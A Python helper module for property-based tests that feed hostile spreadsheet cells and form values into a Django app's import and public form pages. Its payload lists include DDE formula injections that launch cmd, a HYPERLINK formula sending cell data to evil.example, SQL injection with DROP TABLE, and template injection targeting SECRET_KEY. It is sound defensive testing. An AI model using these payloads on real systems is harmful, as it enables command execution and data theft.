"""Shared pieces of the property-based (hypothesis) tests for hostile input: what hostile cells and form values
look like, how a workbook is written from them, and what counts as a Chinese message.

The database is not rolled back between the examples of one test (pytest-django wraps the whole test in one
transaction), so the tests compare row counts before and after each request rather than with zero.
"""

import csv
import datetime
import decimal
import io
import os
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from html import escape
from typing import Any
from urllib.parse import urlencode

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, currently_in_test_context, event, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# Quick enough for every run of the suite (HOSTILE_EXAMPLES=500 for a deeper search by hand). The function-scoped
# fixtures (the cast, the client) are shared by the examples of one test on purpose; no example database is written
# into the working tree.
HOSTILE = settings(
    max_examples=int(os.environ.get("HOSTILE_EXAMPLES", 25)),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)

# Text a spreadsheet program would evaluate if it were a formula (CSV/DDE injection), and its cousins.
FORMULA_LIKE = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    '=DDE("cmd";"/C calc";"A0")',
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "=1+1",
    "=SUM(A1:A9)",
    "=A1",
    "+1",
    "-1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=",
]

# Strings that have broken parsers before: SQL and template syntax, escapes, lookalike digits, bidi overrides.
NASTY = [
    "' OR 1=1 --",
    '"; DROP TABLE branches_person; --',
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "<script>alert(1)</script>",
    "_x0000_",
    "%00",
    "\\x00",
    "null",
    "None",
    "NaN",
    "-0",
    "1e309",
    "0x1F",
    "١٢٣",  # Arabic-Indic digits
    "１２３４５６７８９０１",  # full-width digits
    "²³",  # digits that are not decimal digits
    "①②③",
    "\u202e党支部A",  # right-to-left override
    "\ufeff姓名",  # byte-order mark
    "党支部A\u200b",  # zero-width space
    "𠮷野家",  # outside the Basic Multilingual Plane
    "Ω" * 3,
    "\x00",  # NUL: PostgreSQL refuses it in text; a spreadsheet cannot hold it (dropped), a CSV is refused
    "漏水\x00了",
]

CJK = re.compile(r"[\u3400-\u4dbf\u4e00-\u9fff\uf900-\ufaff]")


def outcome(name: str) -> None:
    """Counts an example's outcome for `pytest --hypothesis-show-statistics` (how often each branch of a property
    ran); nothing outside a hypothesis test (the pinned examples reuse the same checks)."""
    if currently_in_test_context():
        event(name)


def xlsx_safe(text: str) -> str:
    """What openpyxl can write (and XML can carry): no C0 control characters but tab/newline/CR, no U+FFFE/FFFF."""
    return ILLEGAL_CHARACTERS_RE.sub("", text).replace("\ufffe", "").replace("\uffff", "")


any_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)  # every code point but surrogates
long_text = st.builds(
    lambda char, length: char * length,
    st.sampled_from(["长", "A", "9", " 中"]),
    st.sampled_from([61, 121, 201, 501, 2001, 5000]),
)
numbers = st.one_of(
    st.integers(),
    st.integers(min_value=10**15, max_value=10**40),
    st.floats(allow_nan=True, allow_infinity=True),
    st.decimals(allow_nan=False, allow_infinity=False, places=3, min_value=-(10**12), max_value=10**12),
)
moments = st.one_of(
    st.dates(min_value=datetime.date(1900, 3, 1)),
    st.datetimes(min_value=datetime.datetime(1900, 3, 1), max_value=datetime.datetime(9998, 12, 31)),
    st.times(),
)


def hostile_cells(*, text: st.SearchStrategy[str]) -> st.SearchStrategy[Any]:
    """A cell as a user's spreadsheet may hold it: blank, formula-like, nasty, unicode, very long, a number, a date
    or time, a boolean."""
    return st.one_of(
        st.none(),
        st.sampled_from(["", " ", "\t", "\n", "\u3000"]),
        st.sampled_from(FORMULA_LIKE),
        st.sampled_from(NASTY),
        text,
        long_text,
        numbers,
        moments,
        st.booleans(),
    )


# Characters str.isdigit() accepts that are not ASCII digits: superscript and circled (int() refuses them),
# Arabic-Indic and full-width (int() takes them).
LOOKALIKE_DIGITS = "²①١１"


@st.composite
def lookalike(draw, text: str) -> str:
    """`text` (an ID number, a phone number) with one character swapped for a digit lookalike."""
    position = draw(st.integers(min_value=0, max_value=max(len(text) - 1, 0)))
    return text[:position] + draw(st.sampled_from(LOOKALIKE_DIGITS)) + text[position + 1 :]


xlsx_cells = hostile_cells(text=any_text.map(xlsx_safe))
# A CSV is text: everything, control characters included (a NUL makes the file "not a CSV", which is refused).
csv_cells = hostile_cells(text=any_text)


def xlsx_bytes(headers: Sequence[Any], rows: Iterable[Sequence[Any]], *, formulas: bool) -> bytes:
    """A workbook as a user would save it. With `formulas`, text starting with "=" is stored as a formula (what
    typing it into Excel does, and what the reader sees as a formula cell without a cached value); without, every
    string is a text cell."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for values in [headers, *rows]:
        sheet.append([_xlsx_value(value) for value in values])
    if not formulas:
        for line in sheet.iter_rows():
            for cell in line:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_value(value: Any) -> Any:
    if isinstance(value, str):
        return xlsx_safe(value)
    if isinstance(value, float | decimal.Decimal) and not decimal.Decimal(value).is_finite():
        return str(value)  # openpyxl writes nan/inf as numbers Excel cannot open; a user would have typed text
    return value


def csv_bytes(headers: Sequence[Any], rows: Iterable[Sequence[Any]], *, encoding: str = "utf-8-sig") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["" if value is None else value for value in headers])
    for row in rows:
        writer.writerow(["" if value is None else value for value in row])
    return buffer.getvalue().encode(encoding, errors="replace")


def texts_of(values: Iterable[Any]) -> list[str]:
    """The user's own values as text, to take out of a message before looking for Chinese in it."""
    found = []
    for value in values:
        if value is None:
            continue
        text = str(value).strip()
        if text:
            found.append(text)
            if isinstance(value, float) and value.is_integer():
                found.append(str(int(value)))
    return found


def is_chinese(message: str, *, user_texts: Iterable[str] = ()) -> bool:
    """A message in Chinese: it has Chinese characters of its own, not only those the user typed into it (an
    English exception text quoting a Chinese cell is not a Chinese message)."""
    rest = str(message)
    for text in sorted(set(user_texts), key=len, reverse=True):
        rest = rest.replace(text, "")
    return bool(CJK.search(rest))


def assert_chinese(messages: Iterable[Any], *, user_texts: Iterable[str] = ()) -> None:
    user_texts = list(user_texts)
    for message in messages:
        assert is_chinese(str(message), user_texts=user_texts), f"not a Chinese message: {str(message)[:300]!r}"
        assert "内部错误" not in str(message), f"an internal error reached the user: {str(message)[:300]!r}"


# Imports: the preview and confirm halves both import pages share ------------------------------------------------


@dataclass
class Preview:
    """What an upload's preview showed: its result and confirm token, the page, and the row counts before."""

    result: Any
    token: str | None
    page: str
    messages: list[str]


def preview_checked(
    client, url: str, organisation, *, file_name: str, content: bytes, user_texts, counts, form_template
):
    """Uploads a file and checks the preview side of the property: no 5xx, nothing written, every reason in Chinese
    and on the page, an error row exactly when it has reasons. None when the file itself was refused (the form
    says why)."""
    before = counts()
    response = client.post(url, {"file": SimpleUploadedFile(file_name, content), "organisation": organisation.pk})
    assert response.status_code == 200
    assert counts() == before, "the upload wrote to the database"
    page = response.content.decode()

    if "result" not in response.context:
        # The file itself was refused (not a workbook, no header …): the form says why, in Chinese.
        outcome("file refused")
        assert response.templates[0].name == form_template
        messages = [message for errors in response.context["form"].errors.values() for message in errors]
        assert messages, "the upload page came back without a reason"
        assert_chinese(messages, user_texts=user_texts)
        assert all(escape(message) in page for message in messages)
        return None

    result, token = response.context["result"], response.context["token"]
    rows = result.preview_rows()
    for row in rows:
        assert (row.outcome == "error") == bool(row.errors), (row.number, row.outcome, row.errors)
    messages = [*result.file_errors, *(message for row in rows for message in row.errors)]
    assert_chinese(messages, user_texts=user_texts)
    for message in messages:
        assert escape(message) in page, message[:200]
    return Preview(result, token, page, messages)


def confirmed(client, url: str, preview: Preview) -> None:
    """Confirms a clean preview; says what the confirm step refused if it did not import."""
    assert preview.token and "确认导入" in preview.page
    outcome("confirmed")
    response = client.post(url, {"token": preview.token})
    if response.status_code != 302:
        refused = (
            [m for row in response.context["result"].preview_rows() for m in row.errors] if response.context else []
        )
        pytest.fail(f"a clean preview was not imported on confirm: {response.status_code} {refused}")


# Public forms -------------------------------------------------------------------------------------------------

form_values = st.one_of(
    any_text,
    long_text,
    st.sampled_from(FORMULA_LIKE + NASTY),
    st.integers().map(str),
    st.sampled_from(["", " ", "0", "-1", "1.5", "1e3", "true", "[]", "{}"]),
)
# Keys a script may add: anything, and names our own models use.
form_keys = st.one_of(
    any_text,
    st.sampled_from(["id", "pk", "activity", "activity_id", "organisation", "device", "state", "created_by", "csrf"]),
)


def post_form(client, url: str, pairs: Sequence[tuple[str, str]], **extra):
    """POSTs `pairs` (repeated keys allowed, in order) urlencoded, as a browser posts a plain form."""
    return client.post(url, urlencode(list(pairs)), content_type="application/x-www-form-urlencoded", **extra)
